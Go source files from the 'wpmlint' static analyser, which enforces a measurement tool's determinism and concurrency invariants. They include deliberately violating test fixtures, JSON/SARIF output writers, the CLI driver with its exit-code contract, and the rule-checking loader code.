// still open.
func VisitEarlyReturn(f flight, fail bool) error {
	span := f.Begin("visit", 0, 0)
	if fail {
		return fmt.Errorf("boom") // want spanpair
	}
	f.End(span, "visit", 1)
	return nil
}

// VisitPaired is the legal shape: every return path Ends the span first,
// including through the `if span != 0` guard idiom.
func VisitPaired(f flight, fail bool) error {
	span := f.Begin("visit", 0, 0)
	if fail {
		if span != 0 {
			f.End(span, "visit", 1, L("status", "error"))
		}
		return fmt.Errorf("boom")
	}
	f.End(span, "visit", 1)
	return nil
}

// VisitDeferred closes via defer — legal: every later return is covered.
func VisitDeferred(f flight, fail bool) error {
	span := f.Begin("visit", 0, 0)
	defer f.End(span, "visit", 1)
	if fail {
		return fmt.Errorf("boom")
	}
	return nil
}

// VisitEscapes hands the span id to another function — out of spanpair's
// scope: the callee owns the End.
func VisitEscapes(f flight) {
	span := f.Begin("visit", 0, 0)
	record(span)
}

func record(int64) {}
