// Package bad is the wpmlint self-test fixture: every determinism invariant
// violated once. The verify script runs wpmlint against this directory and
// requires a non-zero exit; the linter's own testdata skip keeps it out of
// normal "..." walks.
package bad

import (
	"fmt"
	"math/rand"
	"strings"
	"time"
)

type labels map[string]string

func L(k, v string) labels { return labels{k: v} }

type probe struct{}

func (probe) Enabled() bool                   { return false }
func (probe) Event(name string, ls ...labels) {}

// Stamp violates wallclock: crawl code must not read the wall clock.
func Stamp() int64 {
	return time.Now().UnixNano() // want wallclock
}

// Jitter violates randseed: the package-level functions use the process
// global, unseeded source.
func Jitter() int {
	return rand.Intn(10) // want randseed
}

// Digest violates maprange: serialising while ranging a map emits bytes in
// random order.
func Digest(m map[string]int) string {
	var b strings.Builder
	for k, v := range m { // want maprange
		fmt.Fprintf(&b, "%s=%d;", k, v)
	}
	return b.String()
}

// Emit violates telemetry-nilsafe: the labels are built before the call, so
// they allocate even with telemetry disabled.
func Emit(p probe, site string) {
	p.Event("visit", L("site", site)) // want telemetry-nilsafe
}

// EmitGuarded is the legal shape and must produce no finding.
func EmitGuarded(p probe, site string) {
	if p.Enabled() {
		p.Event("visit", L("site", site))
	}
}

// EmitEarlyReturn is the other legal shape.
func EmitEarlyReturn(p probe, site string) {
	if !p.Enabled() {
		return
	}
	p.Event("visit", L("site", site))
}

// Snapshot is the legal canonical-encoder shape: collect, sort elsewhere,
// then serialise — the map range itself only gathers keys.
func Snapshot(m map[string]int) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	return keys
}
