package bad

import "sync"

// counter guards hits with mu — except in Reset, which forgets the lock.
type counter struct {
	mu   sync.Mutex
	hits int
}

func (c *counter) Add() {
	c.mu.Lock()
	c.hits++
	c.mu.Unlock()
}

// Reset violates lockedmutate: the same field Add writes under c.mu is
// written here with no lock at all.
func (c *counter) Reset() {
	c.hits = 0 // want lockedmutate
}

// guarded is the good twin: every write site agrees on the discipline,
// including through a deferred unlock.
type guarded struct {
	mu sync.Mutex
	n  int
}

func (g *guarded) Add() {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.n++
}

func (g *guarded) Reset() {
	g.mu.Lock()
	g.n = 0
	g.mu.Unlock()
}
