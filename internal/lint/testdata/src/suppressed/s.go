// Package suppressed is the wpmlint suppression fixture: a justified
// suppression stays silent, a bare one is itself a finding.
package suppressed

import "time"

// StampJustified carries a written reason: no finding at all.
func StampJustified() int64 {
	//lint:ignore wallclock fixture: replay identity does not apply here
	return time.Now().UnixNano()
}

// StampBare suppresses without saying why: the wallclock finding is
// swallowed, but the naked directive is reported under rule "suppression".
func StampBare() int64 {
	//lint:ignore wallclock
	return time.Now().UnixNano()
}

// StampTrailing suppresses from the same line, also justified.
func StampTrailing() int64 {
	return time.Now().UnixNano() //lint:ignore wallclock fixture: trailing form
}

// StampUncovered is two lines below its directive: out of range, still a
// wallclock finding.
func StampUncovered() int64 {
	//lint:ignore wallclock fixture: too far away to cover anything

	return time.Now().UnixNano()
}
