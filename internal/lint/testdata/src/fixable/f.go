// Package fixable is the wpmlint -fix fixture: every violation in it has a
// mechanical repair, so a -fix run must leave the package lint-clean.
package fixable

import (
	"fmt"
	"strings"
)

type flight struct{}

func (flight) Begin(name string, parent int64, at float64) int64 { return 1 }
func (flight) End(span int64, name string, at float64)           {}

// Digest serialises while ranging a string-keyed map: -fix rewrites it to
// collect the keys, sort them, and range the sorted slice.
func Digest(m map[string]int) string {
	var b strings.Builder
	for k, v := range m {
		fmt.Fprintf(&b, "%s=%d;", k, v)
	}
	return b.String()
}

// Visit begins a span and never Ends it: -fix inserts the deferred End right
// after the Begin.
func Visit(f flight) {
	span := f.Begin("visit", 0, 0)
	work()
}

func work() {}
