package lint

import (
	"encoding/json"
	"io"
	"path/filepath"
)

// slashPath normalises a finding's file path for machine-readable output:
// cleaned and forward-slashed, so JSON/SARIF documents and baselines are
// byte-identical across platforms.
func slashPath(p string) string { return filepath.ToSlash(filepath.Clean(p)) }

// WriteJSON renders findings as a stable, indented JSON document. The shape
// is deliberately flat — one object per finding with rule/file/line/col/msg —
// so shell pipelines and the golden-output test can consume it without a
// schema.
func WriteJSON(w io.Writer, findings []Finding) error {
	type jsonFinding struct {
		Rule string `json:"rule"`
		File string `json:"file"`
		Line int    `json:"line"`
		Col  int    `json:"col"`
		Msg  string `json:"msg"`
	}
	doc := struct {
		Findings []jsonFinding `json:"findings"`
		Count    int           `json:"count"`
	}{Findings: []jsonFinding{}, Count: len(findings)}
	for _, f := range findings {
		doc.Findings = append(doc.Findings, jsonFinding{
			Rule: f.Rule, File: slashPath(f.Pos.Filename),
			Line: f.Pos.Line, Col: f.Pos.Column, Msg: f.Msg,
		})
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(doc)
}

// The sarif* types model the minimal SARIF 2.1.0 subset wpmlint emits: one
// run, the rule table from the registry, and one result per finding. Field
// order is fixed by the struct definitions, so output is deterministic and
// golden-testable.
type sarifLog struct {
	Schema  string     `json:"$schema"`
	Version string     `json:"version"`
	Runs    []sarifRun `json:"runs"`
}

type sarifRun struct {
	Tool    sarifTool     `json:"tool"`
	Results []sarifResult `json:"results"`
}

type sarifTool struct {
	Driver sarifDriver `json:"driver"`
}

type sarifDriver struct {
	Name           string      `json:"name"`
	InformationURI string      `json:"informationUri"`
	Rules          []sarifRule `json:"rules"`
}

type sarifRule struct {
	ID               string       `json:"id"`
	ShortDescription sarifMessage `json:"shortDescription"`
}

type sarifMessage struct {
	Text string `json:"text"`
}

type sarifResult struct {
	RuleID    string          `json:"ruleId"`
	Level     string          `json:"level"`
	Message   sarifMessage    `json:"message"`
	Locations []sarifLocation `json:"locations"`
}

type sarifLocation struct {
	PhysicalLocation sarifPhysical `json:"physicalLocation"`
}

type sarifPhysical struct {
	ArtifactLocation sarifArtifact `json:"artifactLocation"`
	Region           sarifRegion   `json:"region"`
}

type sarifArtifact struct {
	URI string `json:"uri"`
}

type sarifRegion struct {
	StartLine   int `json:"startLine"`
	StartColumn int `json:"startColumn"`
}

// WriteSARIF renders findings as a SARIF 2.1.0 log. The rule table carries
// every registered rule plus the suppression pseudo-rule, each with its
// one-line doc, so SARIF viewers can show what a finding means without the
// source tree.
func WriteSARIF(w io.Writer, findings []Finding) error {
	drv := sarifDriver{
		Name:           "wpmlint",
		InformationURI: "DESIGN.md#static-analysis",
	}
	for _, r := range Rules {
		drv.Rules = append(drv.Rules, sarifRule{ID: r.Name, ShortDescription: sarifMessage{Text: r.Doc}})
	}
	drv.Rules = append(drv.Rules, sarifRule{ID: suppressionRule, ShortDescription: sarifMessage{Text: RuleDoc(suppressionRule)}})

	results := []sarifResult{}
	for _, f := range findings {
		results = append(results, sarifResult{
			RuleID:  f.Rule,
			Level:   "error",
			Message: sarifMessage{Text: f.Msg},
			Locations: []sarifLocation{{PhysicalLocation: sarifPhysical{
				ArtifactLocation: sarifArtifact{URI: slashPath(f.Pos.Filename)},
				Region:           sarifRegion{StartLine: f.Pos.Line, StartColumn: f.Pos.Column},
			}}},
		})
	}
	log := sarifLog{
		Schema:  "https://json.schemastore.org/sarif-2.1.0.json",
		Version: "2.1.0",
		Runs:    []sarifRun{{Tool: sarifTool{Driver: drv}, Results: results}},
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(log)
}
