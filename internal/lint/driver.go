package lint

import (
	"flag"
	"fmt"
	"io"
	"strings"
)

// Main is the wpmlint driver, factored out of cmd/wpmlint so tests can run
// the whole CLI surface — flags, formats, baseline, fix, exit codes — against
// in-memory writers.
//
// Exit codes are part of the contract scripts build on:
//
//	0  clean (or every finding baselined / fixed)
//	1  findings
//	2  usage error (bad flag, unknown rule, unknown format)
//	3  load failure (missing package, Go-free directory, parse error)
//
// 3 is distinct from 1 on purpose: a linter that cannot load what it was
// pointed at must fail loudly, not report "clean" — the same gullibility
// failure mode the paper documents in measurement tools. Before this split,
// load failures shared an exit code with usage errors and a `|| true`-style
// wrapper could not tell them apart.
func Main(argv []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("wpmlint", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		rules    = fs.String("rules", "", "comma-separated subset of rules (default: all: "+strings.Join(AllRules, ",")+")")
		tests    = fs.Bool("tests", false, "also lint _test.go files")
		format   = fs.String("format", "text", "output format: text, json or sarif")
		basePath = fs.String("baseline", "", "suppress findings recorded in this baseline file")
		update   = fs.Bool("update-baseline", false, "rewrite the -baseline file from the current findings and exit clean")
		fix      = fs.Bool("fix", false, "apply mechanical autofixes (maprange key-sort, missing deferred End) before linting")
	)
	if err := fs.Parse(argv); err != nil {
		return 2
	}
	args := fs.Args()
	if len(args) == 0 {
		args = []string{"./internal/..."}
	}
	switch *format {
	case "text", "json", "sarif":
	default:
		fmt.Fprintf(stderr, "wpmlint: unknown format %q (have text, json, sarif)\n", *format)
		return 2
	}
	if *update && *basePath == "" {
		fmt.Fprintln(stderr, "wpmlint: -update-baseline requires -baseline <path>")
		return 2
	}
	opts := Options{IncludeTests: *tests}
	if *rules != "" {
		opts.Rules = strings.Split(*rules, ",")
		known := map[string]bool{}
		for _, r := range AllRules {
			known[r] = true
		}
		for _, r := range opts.Rules {
			if !known[r] {
				fmt.Fprintf(stderr, "wpmlint: unknown rule %q (have %s)\n", r, strings.Join(AllRules, ", "))
				return 2
			}
		}
	}

	dirs, err := ExpandDirs(args)
	if err != nil {
		fmt.Fprintf(stderr, "wpmlint: %v\n", err)
		return 3
	}
	if *fix {
		fixedFiles, err := FixDirs(dirs, opts)
		if err != nil {
			fmt.Fprintf(stderr, "wpmlint: %v\n", err)
			return 3
		}
		for _, f := range fixedFiles {
			fmt.Fprintf(stderr, "wpmlint: fixed %s\n", f)
		}
	}
	findings, err := LintDirs(dirs, opts)
	if err != nil {
		fmt.Fprintf(stderr, "wpmlint: %v\n", err)
		return 3
	}
	if *update {
		if err := WriteBaseline(*basePath, findings); err != nil {
			fmt.Fprintf(stderr, "wpmlint: %v\n", err)
			return 3
		}
		fmt.Fprintf(stderr, "wpmlint: baseline %s rewritten with %d finding(s)\n", *basePath, len(findings))
		return 0
	}
	if *basePath != "" {
		base, err := LoadBaseline(*basePath)
		if err != nil {
			fmt.Fprintf(stderr, "wpmlint: %v\n", err)
			return 3
		}
		findings = base.Filter(findings)
	}
	switch *format {
	case "text":
		for _, f := range findings {
			fmt.Fprintln(stdout, f)
		}
	case "json":
		if err := WriteJSON(stdout, findings); err != nil {
			fmt.Fprintf(stderr, "wpmlint: %v\n", err)
			return 3
		}
	case "sarif":
		if err := WriteSARIF(stdout, findings); err != nil {
			fmt.Fprintf(stderr, "wpmlint: %v\n", err)
			return 3
		}
	}
	if len(findings) > 0 {
		if *format == "text" {
			fmt.Fprintf(stderr, "wpmlint: %d finding(s)\n", len(findings))
		}
		return 1
	}
	return 0
}
