// Package lint implements wpmlint, a stdlib-only static analyser (go/ast +
// go/types + the internal/lint/cfg dataflow layer) that mechanically enforces
// the repo's reliability invariants. The paper's thesis is that measurement
// tools drift from their assumed behaviour unless the assumptions are
// *checked*; wpmlint is where this repo checks its own.
//
// The determinism family (established by PRs 1–3):
//
//   - wallclock: no time.Now/Since/Until in crawl-path packages; the crawl
//     runs on virtual time, and a wall-clock read anywhere in it breaks
//     record→replay identity.
//   - randseed: math/rand only through seeded constructors (the
//     minjs Interp.Reseed pattern: rand.New(rand.NewSource(seed))); the
//     package-level functions draw from a process-global, unseeded source.
//   - maprange: no map iteration feeding a serialiser inside canonical
//     encoders (Digest/Snapshot/canonicalJSON/Marshal*); Go randomises map
//     order, so such output is nondeterministic unless keys are sorted
//     first. Collecting keys into a slice (then sorting) stays legal.
//   - telemetry-nilsafe: probe events that build labels
//     (.Event(..., telemetry.L(...))) must sit behind an .Enabled() guard;
//     the nil-safe API makes the call itself harmless but the label
//     construction would run — and allocate — on the disabled path.
//   - closecheck: no discarded error from Close/Sync/Flush calls that return
//     one, and no Close error captured into a variable that no path ever
//     reads (flow-sensitive via reaching definitions). On a written file the
//     Close (or Sync/Flush) error IS the write error of record. `defer
//     f.Close()` stays legal (the read-path idiom) and `_ = f.Close()` is an
//     explicit, visible discard.
//   - servertimeouts: no http.Server composite literal without read, write
//     and idle timeouts, and no bare http.ListenAndServe (which cannot set
//     any).
//   - spanpair: a flight-recorder span opened with .Begin(...) must reach an
//     .End(...) call on every control-flow path to the function's exit
//     (checked over the CFG; a defer covers every path, and the false arm of
//     an `if span != 0` guard counts as closed). Span ids that escape the
//     function are out of scope: the receiver owns the End.
//
// The concurrency/reliability family (aimed at the daemon, its SSE event
// hubs, and the sharded scheduler):
//
//   - goroutineleak: a goroutine whose body loops forever (`for` with no
//     condition) with no exit path at all — no return, no break, no panic —
//     can never be shut down: no done channel, context or WaitGroup will
//     ever stop it.
//   - ctxpropagate: a function that takes a context.Context must not then
//     block without it: time.Sleep, context-free net/http helpers
//     (http.Get & friends) and bare channel receives outside a select
//     ignore the cancellation the caller handed in.
//   - lockedmutate: a struct field written both while holding the struct's
//     mutex and outside it is a data race waiting for the race detector (or
//     production) to find; every write site must agree on the locking
//     discipline.
//   - errswallow: an error-returning call whose result vanishes at statement
//     position, or a `_ =` discard with no adjacent comment justifying it,
//     silently converts failures into false measurements — the exact
//     gullibility the paper measures in OpenWPM.
//   - chanbuffer: a blocking channel send inside a loop and outside any
//     select stalls the producer forever once the consumer stops; fan-out
//     paths (the event hub) must use a select with a default or cancel arm.
//
// Inline suppressions: `//lint:ignore <rule[,rule]> <justification>` on (or
// immediately above) the offending line suppresses the finding; an empty
// justification is itself a finding (rule "suppression") — silencing a
// reliability invariant requires writing down why.
package lint

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Finding is one invariant violation.
type Finding struct {
	Rule string
	Pos  token.Position
	Msg  string
}

func (f Finding) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", f.Pos.Filename, f.Pos.Line, f.Pos.Column, f.Rule, f.Msg)
}

// Options configures a lint run.
type Options struct {
	// IncludeTests also lints _test.go files (off by default: tests may
	// legitimately use wall clocks and unseeded randomness).
	IncludeTests bool
	// Rules restricts the run to a subset of AllRules; empty means all.
	Rules []string
}

// LintDirs lints the packages in the given directories (after pattern
// expansion — see ExpandDirs) and returns all findings sorted by position.
// Any load failure — an unreadable or Go-free directory, an unparseable
// file — is an error, never a silent skip: a linter that cannot load what it
// was pointed at must not report "clean".
func LintDirs(dirs []string, opts Options) ([]Finding, error) {
	active := map[string]bool{}
	if len(opts.Rules) == 0 {
		for _, r := range AllRules {
			active[r] = true
		}
	} else {
		for _, r := range opts.Rules {
			active[r] = true
		}
	}
	var findings []Finding
	for _, dir := range dirs {
		fs, err := lintDir(dir, opts, active)
		if err != nil {
			return nil, err
		}
		findings = append(findings, fs...)
	}
	sort.Slice(findings, func(i, j int) bool {
		a, b := findings[i], findings[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		return a.Rule < b.Rule
	})
	return findings, nil
}

// ExpandDirs resolves CLI arguments into lintable directories: a plain path
// names itself; a path ending in "/..." walks recursively. Walked testdata
// trees are skipped (they hold deliberate violations), but naming a testdata
// directory explicitly lints it — that is how the self-test fixture runs.
// A nonexistent root is an error (a load failure the driver exits 3 on).
func ExpandDirs(args []string) ([]string, error) {
	var out []string
	seen := map[string]bool{}
	add := func(d string) {
		d = filepath.Clean(d)
		if !seen[d] {
			seen[d] = true
			out = append(out, d)
		}
	}
	for _, a := range args {
		root, rec := a, false
		if strings.HasSuffix(a, "/...") {
			root, rec = strings.TrimSuffix(a, "/..."), true
		}
		if st, err := os.Stat(root); err != nil {
			return nil, fmt.Errorf("lint: %s: %w", a, err)
		} else if !st.IsDir() {
			return nil, fmt.Errorf("lint: %s is not a directory", root)
		}
		if !rec {
			add(root)
			continue
		}
		err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if !d.IsDir() {
				return nil
			}
			name := d.Name()
			if name == "testdata" || strings.HasPrefix(name, ".") && path != root {
				return filepath.SkipDir
			}
			ents, err := os.ReadDir(path)
			if err != nil {
				return err
			}
			for _, e := range ents {
				if !e.IsDir() && strings.HasSuffix(e.Name(), ".go") {
					add(path)
					break
				}
			}
			return nil
		})
		if err != nil {
			return nil, err
		}
	}
	return out, nil
}

// lintDir parses and type-checks one directory's package and applies the
// active rules.
func lintDir(dir string, opts Options, active map[string]bool) ([]Finding, error) {
	passes, err := loadDir(dir, opts)
	if err != nil {
		return nil, err
	}
	var findings []Finding
	for _, p := range passes {
		for _, r := range Rules {
			if active[r.Name] {
				r.Check(p)
			}
		}
		findings = append(findings, applySuppressions(p.Fset, p.Files, p.findings)...)
	}
	return findings, nil
}

// loadDir parses and leniently type-checks one directory, returning one Pass
// per package found there (external test packages type-check separately).
// The -fix pipeline reuses this loader without running any rules.
func loadDir(dir string, opts Options) ([]*Pass, error) {
	fset := token.NewFileSet()
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("lint: load %s: %w", dir, err)
	}
	var files []*ast.File
	anyGo := false
	for _, e := range ents {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") {
			continue
		}
		anyGo = true
		if !opts.IncludeTests && strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, filepath.Join(dir, name), nil, parser.ParseComments)
		if err != nil {
			return nil, fmt.Errorf("lint: parse %s: %w", name, err)
		}
		files = append(files, f)
	}
	if !anyGo {
		return nil, fmt.Errorf("lint: no Go files in %s", dir)
	}
	if len(files) == 0 {
		return nil, nil // only test files, and tests excluded: nothing to lint
	}
	// external test packages (package foo_test) type-check separately; split
	byPkg := map[string][]*ast.File{}
	for _, f := range files {
		byPkg[f.Name.Name] = append(byPkg[f.Name.Name], f)
	}
	names := make([]string, 0, len(byPkg))
	for n := range byPkg {
		names = append(names, n)
	}
	sort.Strings(names)
	passes := make([]*Pass, 0, len(names))
	for _, n := range names {
		passes = append(passes, loadPackage(fset, n, byPkg[n]))
	}
	return passes, nil
}

// lenientImporter resolves what it can from compiled stdlib packages and
// fabricates empty packages for everything else (module-local imports are
// not compiled when the linter runs), so type-checking always proceeds.
type lenientImporter struct{ std types.Importer }

func (im lenientImporter) Import(path string) (*types.Package, error) {
	if p, err := im.std.Import(path); err == nil {
		return p, nil
	}
	name := path
	if i := strings.LastIndex(path, "/"); i >= 0 {
		name = path[i+1:]
	}
	p := types.NewPackage(path, name)
	p.MarkComplete()
	return p, nil
}

// loadPackage type-checks one package leniently and builds its Pass (type
// info, import tables, package fact store) without running any rules.
func loadPackage(fset *token.FileSet, name string, files []*ast.File) *Pass {
	info := &types.Info{
		Types: map[ast.Expr]types.TypeAndValue{},
		Defs:  map[*ast.Ident]types.Object{},
		Uses:  map[*ast.Ident]types.Object{},
	}
	conf := types.Config{
		Importer:         lenientImporter{importer.Default()},
		Error:            func(error) {}, // fabricated imports cause benign errors
		IgnoreFuncBodies: false,
	}
	// best effort: with fabricated imports some expressions stay untyped;
	// rules that need types skip what they cannot resolve
	conf.Check(name, fset, files, info)
	return newPass(fset, name, files, info)
}
