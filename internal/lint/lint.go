// Package lint implements wpmlint, a stdlib-only static analyser (go/ast +
// go/types) that mechanically enforces the repo's determinism invariants —
// the guarantees PRs 1–3 established by convention:
//
//   - wallclock: no time.Now/Since/Until in crawl-path packages; the crawl
//     runs on virtual time, and a wall-clock read anywhere in it breaks
//     record→replay identity.
//   - randseed: math/rand only through seeded constructors (the
//     minjs Interp.Reseed pattern: rand.New(rand.NewSource(seed))); the
//     package-level functions draw from a process-global, unseeded source.
//   - maprange: no map iteration feeding a serialiser inside canonical
//     encoders (Digest/Snapshot/canonicalJSON/Marshal*); Go randomises map
//     order, so such output is nondeterministic unless keys are sorted
//     first. Collecting keys into a slice (then sorting) stays legal.
//   - telemetry-nilsafe: probe events that build labels
//     (.Event(..., telemetry.L(...))) must sit behind an .Enabled() guard;
//     the nil-safe API makes the call itself harmless but the label
//     construction would run — and allocate — on the disabled path.
//   - closecheck: no discarded error from Close/Sync/Flush calls that return
//     one. On a written file the Close (or Sync/Flush) error IS the write
//     error of record — buffered bytes surface their I/O failure there, and
//     a crash-safe log that swallows it reports durability it does not have.
//     `defer f.Close()` stays legal (the read-path idiom) and `_ = f.Close()`
//     is an explicit, visible discard.
//   - servertimeouts: no http.Server composite literal without read, write
//     and idle timeouts, and no bare http.ListenAndServe (which cannot set
//     any). A long-running service (wpmd) with an untimed listener lets one
//     slow client hold a connection — and the goroutine serving it —
//     forever.
//   - spanpair: a flight-recorder span opened with .Begin(...) must reach an
//     .End(...) call. A discarded Begin result can never be closed; a span id
//     held in a local that never feeds an End — or that a return path skips
//     past — leaves the span open forever, which wpmtrace then reports as
//     truncated. Span ids that escape the function (returned, stored, or
//     passed on) are out of scope: the receiver owns the End.
package lint

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// Finding is one invariant violation.
type Finding struct {
	Rule string
	Pos  token.Position
	Msg  string
}

func (f Finding) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", f.Pos.Filename, f.Pos.Line, f.Pos.Column, f.Rule, f.Msg)
}

// AllRules lists the rule names in reporting order.
var AllRules = []string{"wallclock", "randseed", "maprange", "telemetry-nilsafe", "closecheck", "servertimeouts", "spanpair"}

// Options configures a lint run.
type Options struct {
	// IncludeTests also lints _test.go files (off by default: tests may
	// legitimately use wall clocks and unseeded randomness).
	IncludeTests bool
	// Rules restricts the run to a subset of AllRules; empty means all.
	Rules []string
}

// randAllowed are the math/rand package-level names usable from crawl code:
// the seeded-constructor surface and the types needed to hold one.
var randAllowed = map[string]bool{"New": true, "NewSource": true, "Rand": true, "Source": true}

// wallclockBanned are the time package functions that read the wall clock.
var wallclockBanned = map[string]bool{"Now": true, "Since": true, "Until": true}

// canonicalFunc reports whether a function name marks a canonical encoder —
// the scope of the maprange rule.
func canonicalFunc(name string) bool {
	return name == "Digest" || name == "Snapshot" ||
		strings.HasPrefix(name, "canonical") || strings.HasPrefix(name, "Canonical") ||
		strings.HasPrefix(name, "Marshal")
}

// serializerNames are call names that emit bytes in source order; a map
// range whose body calls one is producing nondeterministic output.
var serializerNames = map[string]bool{
	"Fprintf": true, "Fprint": true, "Fprintln": true,
	"Write": true, "WriteString": true, "WriteByte": true, "WriteRune": true,
}

// LintDirs lints the packages in the given directories (after pattern
// expansion — see ExpandDirs) and returns all findings sorted by position.
func LintDirs(dirs []string, opts Options) ([]Finding, error) {
	active := map[string]bool{}
	if len(opts.Rules) == 0 {
		for _, r := range AllRules {
			active[r] = true
		}
	} else {
		for _, r := range opts.Rules {
			active[r] = true
		}
	}
	var findings []Finding
	for _, dir := range dirs {
		fs, err := lintDir(dir, opts, active)
		if err != nil {
			return nil, err
		}
		findings = append(findings, fs...)
	}
	sort.Slice(findings, func(i, j int) bool {
		a, b := findings[i], findings[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		return a.Rule < b.Rule
	})
	return findings, nil
}

// ExpandDirs resolves CLI arguments into lintable directories: a plain path
// names itself; a path ending in "/..." walks recursively. Walked testdata
// trees are skipped (they hold deliberate violations), but naming a testdata
// directory explicitly lints it — that is how the self-test fixture runs.
func ExpandDirs(args []string) ([]string, error) {
	var out []string
	seen := map[string]bool{}
	add := func(d string) {
		d = filepath.Clean(d)
		if !seen[d] {
			seen[d] = true
			out = append(out, d)
		}
	}
	for _, a := range args {
		root, rec := a, false
		if strings.HasSuffix(a, "/...") {
			root, rec = strings.TrimSuffix(a, "/..."), true
		}
		if !rec {
			add(root)
			continue
		}
		err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if !d.IsDir() {
				return nil
			}
			name := d.Name()
			if name == "testdata" || strings.HasPrefix(name, ".") && path != root {
				return filepath.SkipDir
			}
			ents, err := os.ReadDir(path)
			if err != nil {
				return err
			}
			for _, e := range ents {
				if !e.IsDir() && strings.HasSuffix(e.Name(), ".go") {
					add(path)
					break
				}
			}
			return nil
		})
		if err != nil {
			return nil, err
		}
	}
	return out, nil
}

// lintDir parses and type-checks one directory's package and applies the
// active rules.
func lintDir(dir string, opts Options, active map[string]bool) ([]Finding, error) {
	fset := token.NewFileSet()
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var files []*ast.File
	for _, e := range ents {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") {
			continue
		}
		if !opts.IncludeTests && strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, filepath.Join(dir, name), nil, parser.ParseComments)
		if err != nil {
			return nil, fmt.Errorf("lint: parse %s: %w", name, err)
		}
		files = append(files, f)
	}
	if len(files) == 0 {
		return nil, nil
	}
	// external test packages (package foo_test) type-check separately; split
	byPkg := map[string][]*ast.File{}
	for _, f := range files {
		byPkg[f.Name.Name] = append(byPkg[f.Name.Name], f)
	}
	var findings []Finding
	names := make([]string, 0, len(byPkg))
	for n := range byPkg {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		findings = append(findings, lintPackage(fset, n, byPkg[n], active)...)
	}
	return findings, nil
}

// lenientImporter resolves what it can from compiled stdlib packages and
// fabricates empty packages for everything else (module-local imports are
// not compiled when the linter runs), so type-checking always proceeds.
type lenientImporter struct{ std types.Importer }

func (im lenientImporter) Import(path string) (*types.Package, error) {
	if p, err := im.std.Import(path); err == nil {
		return p, nil
	}
	name := path
	if i := strings.LastIndex(path, "/"); i >= 0 {
		name = path[i+1:]
	}
	p := types.NewPackage(path, name)
	p.MarkComplete()
	return p, nil
}

// lintPackage type-checks one package leniently and runs the rules.
func lintPackage(fset *token.FileSet, name string, files []*ast.File, active map[string]bool) []Finding {
	info := &types.Info{Types: map[ast.Expr]types.TypeAndValue{}}
	conf := types.Config{
		Importer:         lenientImporter{importer.Default()},
		Error:            func(error) {}, // fabricated imports cause benign errors
		IgnoreFuncBodies: false,
	}
	// best effort: with fabricated imports some expressions stay untyped;
	// rules that need types skip what they cannot resolve
	conf.Check(name, fset, files, info)

	w := &walker{fset: fset, info: info, active: active, pkg: name}
	for _, f := range files {
		w.imports = map[string]string{}
		for _, imp := range f.Imports {
			path, _ := strconv.Unquote(imp.Path.Value)
			alias := path
			if i := strings.LastIndex(path, "/"); i >= 0 {
				alias = path[i+1:]
			}
			if imp.Name != nil {
				alias = imp.Name.Name
			}
			w.imports[alias] = path
		}
		ast.Inspect(f, w.visit)
	}
	return w.findings
}

// walker applies the rule set over one package's files.
type walker struct {
	fset     *token.FileSet
	info     *types.Info
	active   map[string]bool
	pkg      string
	imports  map[string]string // alias → import path, per file
	findings []Finding
}

func (w *walker) emit(rule string, pos token.Pos, msg string) {
	w.findings = append(w.findings, Finding{Rule: rule, Pos: w.fset.Position(pos), Msg: msg})
}

// pkgSelector reports the import path behind x in x.Sel, "" when x is not a
// package identifier.
func (w *walker) pkgSelector(sel *ast.SelectorExpr) string {
	id, ok := sel.X.(*ast.Ident)
	if !ok {
		return ""
	}
	return w.imports[id.Name]
}

func (w *walker) visit(n ast.Node) bool {
	switch x := n.(type) {
	case *ast.SelectorExpr:
		switch w.pkgSelector(x) {
		case "time":
			if w.active["wallclock"] && wallclockBanned[x.Sel.Name] {
				w.emit("wallclock", x.Pos(),
					"time."+x.Sel.Name+" reads the wall clock; crawl paths run on virtual time (pass timestamps in, or keep wall-clock I/O in cmd/)")
			}
		case "math/rand":
			if w.active["randseed"] && !randAllowed[x.Sel.Name] {
				w.emit("randseed", x.Pos(),
					"rand."+x.Sel.Name+" draws from the unseeded global source; use rand.New(rand.NewSource(seed)) (the Interp.Reseed pattern)")
			}
		case "net/http":
			if w.active["servertimeouts"] && (x.Sel.Name == "ListenAndServe" || x.Sel.Name == "ListenAndServeTLS") {
				w.emit("servertimeouts", x.Pos(),
					"http."+x.Sel.Name+" serves with no timeouts at all; build an http.Server with Read/Write/Idle timeouts and call its Serve")
			}
		}
	case *ast.CompositeLit:
		if w.active["servertimeouts"] {
			w.checkServerTimeouts(x)
		}
	case *ast.ExprStmt:
		if w.active["closecheck"] {
			w.checkDiscardedClose(x.X, false)
		}
	case *ast.DeferStmt:
		if w.active["closecheck"] {
			w.checkDiscardedClose(x.Call, true)
		}
